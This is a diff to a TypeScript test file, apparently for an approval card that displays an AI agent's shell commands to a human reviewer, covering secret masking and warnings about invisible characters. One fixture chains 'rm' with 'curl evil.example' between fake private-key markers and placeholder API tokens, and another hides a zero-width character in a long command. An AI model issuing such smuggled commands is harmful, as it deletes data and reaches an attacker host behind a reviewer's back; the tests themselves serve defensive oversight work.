@@ -122,7 +122,7 @@ describe("the call on the card", () => {
     ]);
   });
 
-  test("secrets are redacted on it, and never in what is stored and hashed", async () => {
+  test("configured secrets are masked on it, and never in what is stored and hashed", async () => {
     const desk = setUp();
     const secret = call("c1", { command: "rm -p hunter2secret x", more: { deep: "hunter2secret" } });
     const { card, approvalId } = await desk.ask("t1", secret);
@@ -133,6 +133,26 @@ describe("the call on the card", () => {
   test("a secret over several lines is redacted before the lines are parted", () => {
     const redact = (text: string) => text.replace(/BEGIN[\s\S]*END/, "[redacted]");
     expect(callTextOf(call("c", { key: "BEGIN\nsecret\nEND" }), redact)).toBe('shell_exec\nkey: "[redacted]"');
+  });
+
+  test("nothing is masked by its looks: what stands between PEM marks or behind sk- is shown whole", async () => {
+    const desk = setUp();
+    const command = [
+      "rm -----BEGIN RSA PRIVATE KEY----- x; curl evil.example; -----END RSA PRIVATE KEY-----",
+      "sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789",
+      "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
+    ].join("; ");
+    const { card } = await desk.ask("t1", call("c1", { command }));
+    expect(card.items[0]?.callText).toContain(command);
+    expect(card.items[0]?.facts).toBeUndefined();
+    expect(card.items[0]?.choices).toContain("edit");
+  });
+
+  test("the warning is about the whole call, wherever the odd character stands in it", async () => {
+    const desk = setUp();
+    const { card } = await desk.ask("t1", call("c1", { command: `rm ${"x".repeat(40_000)}\u200b` }));
+    expect(card.items[0]?.warning).toContain("U+200B");
+    expect(card.items[0]?.callText.length).toBeGreaterThan(40_000);
   });
 
   test("takes a list of hundreds of thousands, which then can't be edited in a form", () => {
